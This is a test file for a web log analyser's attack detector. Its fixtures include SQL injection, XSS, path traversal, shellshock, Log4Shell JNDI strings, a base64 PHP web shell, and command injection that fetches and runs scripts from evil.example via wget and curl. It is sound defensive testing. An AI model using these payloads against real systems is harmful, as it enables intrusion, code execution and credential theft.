import { describe, it, expect, beforeAll } from 'vitest';
import { ok, memorySource } from '../helpers/core';
import { sessionAt } from '../../src/lib/core/sessions';
import type { ParsedRequest, Session } from '../../src/lib/core/types';

// Attack detection (SPEC §3) on the clear cases: classic payloads each flagged with its type, and
// benign look-alikes flagged with nothing. Per request through `analyse(...).preview`, per session
// through sessionAt. How well the detector does on whole labelled datasets is measured, not
// asserted: `node scripts/bench-detect.js`.

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';

interface Case {
  /** What the case is, as the test names it. */
  name: string;
  /** The request target as the log line shows it. */
  target: string;
  ua?: string;
  referer?: string;
}

/** A query parameter as a browser sends it (encodeURIComponent). */
const q = (param: string, value: string) => `/search?${param}=${encodeURIComponent(value)}`;
const inQuery = (value: string, param = 'q'): Case => ({ name: value, target: q(param, value) });
const raw = (target: string): Case => ({ name: target, target });

/** Cases per attack type: each must come out with that type among its attacks. */
const ATTACKS: Record<string, Case[]> = {
  sqli: [
    inQuery("' OR 1=1--", 'id'),
    inQuery('1 UNION SELECT username,password FROM users', 'id'),
    inQuery("' OR 'a'='a", 'user'),
    inQuery("1' AND SLEEP(5)-- -", 'id'),
    inQuery("1'; DROP TABLE users;--", 'id'),
    inQuery('-1 UNION/**/SELECT/**/1,2,3', 'id'),
    raw("/item.php?id=1%27%20AND%201%3D1%20UNION%20ALL%20SELECT%20NULL%2CNULL--"),
    { name: 'in the referrer', target: '/', referer: "http://shop.example/?id=1' UNION SELECT password FROM users--" }
  ],
  xss: [
    inQuery('<script>alert(1)</script>'),
    inQuery('"><img src=x onerror=alert(1)>'),
    inQuery('<svg/onload=alert(document.domain)>'),
    inQuery('<iframe src="javascript:alert(1)"></iframe>'),
    inQuery('<body onload=alert(\'XSS\')>'),
    inQuery('javascript:alert(document.cookie)', 'next'),
    { name: 'in the user agent', target: '/', ua: '<script>alert(1)</script>' }
  ],
  traversal: [
    raw('/static/../../../../etc/passwd'),
    inQuery('../../../../etc/passwd', 'file'),
    raw('/download?file=..%2f..%2f..%2fetc%2fpasswd'),
    raw('/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'),
    raw('/download?file=..%5c..%5c..%5cwindows%5cwin.ini'),
    raw('/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd'),
    raw('/public/plugins/grafana/%2E%2E/%2E%2E/%2E%2E/%2E%2E/etc/passwd')
  ],
  cmdi: [
    inQuery(';cat /etc/passwd', 'host'),
    inQuery('$(id)', 'q'),
    inQuery('127.0.0.1 | whoami', 'ip'),
    inQuery('`uname -a`', 'q'),
    inQuery('x; wget http://evil.example/x.sh -O /tmp/x; sh /tmp/x', 'q'),
    inQuery('1 && curl http://evil.example/a | sh', 'q'),
    { name: 'shellshock in the user agent', target: '/cgi-bin/status', ua: '() { :; }; /bin/bash -c "cat /etc/passwd"' },
    // a command line as the whole value: options, or a system path as its argument
    inQuery('/bin/ls -al', 'cmd'),
    inQuery('cat /etc/passwd', 'file'),
    raw('/search?q=+dir+c:/'),
    raw('/search?q=+dir+c:+|'),
    raw('/admin/exec.php3?cmd=dir%20c:%5c'),
    inQuery('ipconfig /all', 'q'),
    // Windows binaries by their file name, after a quote that closes the application's own
    inQuery('ping.exe -n 31 127.0.0.1', 'host'),
    inQuery('" ping.exe -n 31 127.0.0.1', 'host'),
    // a pipe to a binary whose first slash was lost; a command alone after an ampersand opening the value
    inQuery('|usr/bin/id', 'q'),
    inQuery('& id', 'ip'),
    inQuery('& net view', 'ip'),
    inQuery("exec('whoami')", 'code')
  ],
  jndi: [
    inQuery('${jndi:ldap://x/a}'),
    inQuery('${${lower:j}ndi:ldap://x/a}'),
    inQuery('${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}'),
    raw('/%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D'),
    { name: 'in the user agent', target: '/', ua: '${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/a}' },
    { name: 'in the referrer', target: '/', referer: '${jndi:dns://x/a}' }
  ],
  'file-inclusion': [
    inQuery('php://filter/convert.base64-encode/resource=index.php', 'file'),
    raw('/index.php?page=http://evil.example/shell.txt?'),
    inQuery('data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+', 'page'),
    inQuery('expect://id', 'file'),
    inQuery('php://input', 'page'),
    raw('/index.php?n=http://eatmyfood.hostinginfive.com/pizza.htm?')
  ],
  scanner: [
    raw('/.env'),
    raw('/.git/config'),
    raw('/wp-login.php'),
    raw('/phpmyadmin/'),
    raw('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
    raw('/.aws/credentials'),
    { name: 'sqlmap', target: '/', ua: 'sqlmap/1.7.2#stable (https://sqlmap.org)' },
    { name: 'Nikto', target: '/', ua: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' },
    { name: 'nuclei', target: '/', ua: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' },
    { name: 'zgrab', target: '/', ua: 'Mozilla/5.0 zgrab/0.x' },
    { name: 'masscan', target: '/', ua: 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' }
  ]
};

/**
 * Benign requests that look like attacks to a careless detector: no type at all. `/admin-guide.html`
 * is here on purpose: an `/admin…` page is part of many sites, so only well-known third-party
 * panels (phpMyAdmin, wp-login.php, …) count as probes, not a path that starts with "admin".
 */
const BENIGN: Case[] = [
  raw('/products/select'),
  inQuery('select'),
  raw('/search?q=union+station'),
  raw('/static/app.js'),
  raw('/scripts/main.js'),
  raw('/admin-guide.html'),
  raw('/search?q=drop+shipping'),
  inQuery("O'Brien", 'name'),
  raw("/people?name=O'Brien"),
  raw('/orders?sort=created_at&order=desc'),
  raw('/blog/select-the-best-shoes'),
  inQuery('1=1 math'),
  inQuery('cat food'),
  inQuery('rock & roll'),
  inQuery('1 < 2 and 3 > 2'),
  raw('/category/union-jobs?page=2'),
  raw('/login?next=/account/orders'),
  raw('/images/2024/cat.jpg'),
  inQuery('john.doe@example.com', 'email'),
  inQuery('C++ tutorial'),
  // command words that are no command line: a flag closed by ";", a sort key, prose around "&", a "-"
  raw('/prefs?dark=true;'),
  raw('/prefs?compact=false|'),
  raw('/orders?sort=id&dir=asc'),
  inQuery('LC & NC - Boys038-XL.jpg'),
  inQuery('ping pong table'),
  inQuery('cat /dog toys'),
  inQuery('Tom & Jerry'),
  inQuery('echo a: the band'),
  { name: 'Googlebot', target: '/robots.txt', ua: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
  { name: 'a referrer with a query', target: '/products/42', referer: 'https://www.google.com/search?q=best+select+shoes&ie=UTF-8' }
];

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
/** A combined log line, `seconds` after 2024-03-04 10:00:00 UTC. */
function line(ip: string, seconds: number, target: string, ua = BROWSER, referer = '-', status = 200): string {
  const d = new Date(Date.UTC(2024, 2, 4, 10, 0, 0) + seconds * 1000);
  const p = (n: number) => String(n).padStart(2, '0');
  const time = `${p(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} +0000`;
  return `${ip} - - [${time}] "GET ${target} HTTP/1.1" ${status} 512 "${referer}" "${ua}"`;
}

/** Every case as one line of one log (its own client IP); line n is cases[n-1]. */
const CASES: Case[] = [...Object.values(ATTACKS).flat(), ...BENIGN];
const LOG = CASES.map((c, i) => line(`10.0.${i >> 8}.${i & 255}`, i, c.target, c.ua, c.referer)).join('\n') + '\n';

let byLine = new Map<number, ParsedRequest>();
beforeAll(async () => {
  const { preview } = await ok([memorySource('detect.log', LOG)], { previewLimit: CASES.length });
  byLine = new Map(preview.map((p) => [p.line, p]));
});

/** The attacks found on a case's line (the line must have parsed). */
function attacksOf(c: Case): string[] {
  const req = byLine.get(CASES.indexOf(c) + 1);
  if (!req) throw new Error(`the line of ${c.name} did not parse`);
  return req.attacks;
}

describe('attack types per request', () => {
  for (const [type, cases] of Object.entries(ATTACKS)) {
    describe(type, () => {
      it.each(cases.map((c) => [c.name, c] as const))('%s', (_, c) => {
        expect(attacksOf(c)).toContain(type);
      });
    });
  }
});

describe('benign look-alikes', () => {
  it.each(BENIGN.map((c) => [c.name, c] as const))('%s is no attack', (_, c) => {
    expect(attacksOf(c)).toEqual([]);
  });
});

describe('the same verdicts whatever the chunk size', () => {
  it('cuts anywhere in a line change no request’s attacks', async () => {
    const whole = [...byLine.values()].map((p) => p.attacks);
    for (const chunkSize of [7, 64, 333]) {
      const { preview } = await ok([memorySource('detect.log', LOG, 13)], { previewLimit: CASES.length, chunkSize });
      expect(preview.map((p) => p.attacks)).toEqual(whole);
    }
  });
});

describe('sessions', () => {
  const SQLMAP = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
  const log = [
    line('203.0.113.7', 0, '/item.php?id=1', SQLMAP),
    line('198.51.100.20', 5, '/'),
    line('203.0.113.7', 10, `/item.php?id=${encodeURIComponent("1' AND 1=1-- -")}`, SQLMAP),
    line('203.0.113.7', 20, `/item.php?id=${encodeURIComponent('1 UNION ALL SELECT NULL,NULL--')}`, SQLMAP, '-', 500),
    line('198.51.100.20', 30, '/products'),
    line('203.0.113.7', 40, `/item.php?id=${encodeURIComponent('1) AND SLEEP(5)#')}`, SQLMAP),
    line('198.51.100.20', 60, '/products/42'),
    line('198.51.100.20', 90, '/static/app.js', BROWSER, 'https://shop.example/products/42'),
    line('198.51.100.20', 120, '/cart')
  ].join('\n');

  let sessions: Session[] = [];
  beforeAll(async () => {
    const { sessions: cols } = await ok([memorySource('sessions.log', log)]);
    sessions = Array.from({ length: cols.count }, (_, i) => sessionAt(cols, i));
  });
  const byIp = (ip: string) => {
    const s = sessions.find((x) => x.ip === ip);
    if (!s) throw new Error(`no session of ${ip}`);
    return s;
  };

  it('a session from sqlmap’s user agent is a security crawler, with evidence, and risky', () => {
    const s = byIp('203.0.113.7');
    expect(s.requests).toBe(4);
    const label = s.labels.find((l) => l.name === 'security-crawler');
    expect(label, `labels: ${JSON.stringify(s.labels)}`).toBeDefined();
    expect(String(label?.evidence ?? '').trim()).not.toBe('');
    expect(s.risk).toBeGreaterThan(0);
    expect(s.risk).toBeLessThanOrEqual(100);
    expect(s.attacks.scanner).toBe(4);
    expect(s.attacks.sqli ?? 0).toBeGreaterThan(0);
  });

  it('a plain browsing session has no label, no attack and risk 0', () => {
    const s = byIp('198.51.100.20');
    expect(s.requests).toBe(5);
    expect(s.labels).toEqual([]);
    expect(Object.values(s.attacks).filter((n) => n > 0)).toEqual([]);
    expect(s.risk).toBe(0);
  });

  it('without scores (the CLI outside `sessions`) the columns carry no labels or risk, and the sessions are the same', async () => {
    const scored = (await ok([memorySource('sessions.log', log)])).sessions;
    const { sessions: cols } = await ok([memorySource('sessions.log', log)], { scores: false });
    expect(Array.from(cols.labelBits).concat(Array.from(cols.risk)).every((v) => v === 0)).toBe(true);
    expect(Array.from(scored.risk).some((v) => v > 0) && Array.from(scored.labelBits).some((v) => v > 0)).toBe(true);
    // sessionAt explains labels and risk from the columns' figures, not from the stored bits
    expect(Array.from({ length: cols.count }, (_, i) => sessionAt(cols, i))).toEqual(sessions);
  });
});
